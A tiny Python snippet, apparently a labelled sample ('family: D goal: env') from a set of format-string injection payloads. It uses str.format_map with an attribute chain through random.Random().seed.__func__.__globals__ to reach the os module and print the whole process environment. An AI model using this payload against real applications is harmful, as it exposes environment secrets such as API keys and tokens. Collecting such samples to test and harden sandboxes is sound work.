# family: D   goal: env
import random
fmt = "{" + "r.seed.__func__.__globals__[_os].environ" + "}"
print(fmt.format_map({"r": random.Random()}))
